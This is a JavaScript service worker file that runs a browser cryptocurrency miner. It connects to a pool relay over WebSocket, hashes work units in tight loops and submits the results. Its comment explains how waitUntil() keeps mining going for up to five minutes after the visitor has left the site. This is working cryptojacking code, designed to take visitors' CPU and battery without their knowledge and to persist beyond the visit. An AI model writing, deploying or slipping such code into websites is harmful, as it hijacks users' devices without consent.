// A service worker that mines: its own pool socket, hashing in its own thread. Chromium stops an
// idle service worker after about 30 s, but an event kept open with waitUntil() lets it run for
// up to five minutes after the last page of the site has gone.
importScripts("/js/sha256.js", "/js/search.js");
self.addEventListener("install", function () { self.skipWaiting(); });
self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });

var running = null;

function mine(acct) {
  return new Promise(function (done) {
    var ws = new WebSocket("ws://" + location.host + "/pool/relay"), task = null, n = 0;
    var stopAt = Date.now() + 280000;
    ws.onopen = function () { ws.send(JSON.stringify(["hi", acct, "sw"])); };
    ws.onmessage = function (m) {
      var f = JSON.parse(m.data);
      if (f[0] === "w") task = { id: f[1], seed: f[2], target: f[3] };
    };
    ws.onclose = done;
    (function chunk() {
      if (Date.now() > stopAt) { ws.close(); return; }
      if (task) {
        var s = Date.now();
        while (Date.now() - s < 40) {
          var f = self.evSearch(task, "sha256", n, 32);
          n = (n + 32) >>> 0;
          for (var i = 0; i < f.length; i++) ws.send(JSON.stringify(["r", task.id, f[i].nonce, f[i].result]));
        }
      }
      setTimeout(chunk, 5);
    })();
  });
}

self.addEventListener("message", function (event) {
  if (!running) running = mine(event.data.acct);
  event.waitUntil(running);
});
